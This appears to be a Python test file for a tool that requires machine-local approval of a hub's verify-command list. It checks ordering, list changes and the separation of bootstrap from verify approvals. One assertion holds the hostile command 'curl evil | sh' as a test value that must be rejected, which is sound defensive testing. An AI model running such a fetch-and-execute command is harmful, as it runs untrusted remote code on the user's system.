"""Approvals of verify commands: the hub's list runs only once this machine approved it."""

from __future__ import annotations

from pathlib import Path

from git_sessions import approvals
from git_sessions.gitrepo.comparison import _overlap


def approved(git_dir: Path, commands: list[str], **env: str) -> bool:
    return approvals.approved(git_dir, commands, environ=env, git_config=None, kind="verify")


def test_a_verify_approval_covers_exactly_one_list(tmp_path: Path) -> None:
    commands = ["make test", "make lint"]
    assert not approved(tmp_path, commands)
    approvals.approve(tmp_path, commands, kind="verify")
    assert approved(tmp_path, commands)
    assert not approved(tmp_path, [*commands, "curl evil | sh"])
    assert not approved(tmp_path, commands[::-1])
    # the same list approved as bootstrap steps is not approved as verify commands
    approvals.approve(tmp_path, ["echo hi"])
    assert not approved(tmp_path, ["echo hi"])
    assert approved(tmp_path, ["echo hi"], GIT_SESSIONS_APPROVE_VERIFY="1")
    assert not approved(tmp_path, ["echo hi"], GIT_SESSIONS_APPROVE_BOOTSTRAP="1")
    assert approved(tmp_path, [])


def test_changed_paths_overlap_by_path_or_folder() -> None:
    assert _overlap(["a/b.txt"], ["a/b.txt"])
    assert _overlap(["a"], ["a/b.txt"])  # a file where the other side has a folder
    assert _overlap(["a/b/c"], ["a/b"])
    assert not _overlap(["a/b.txt"], ["a/c.txt", "b"])
    assert not _overlap([], ["x"])
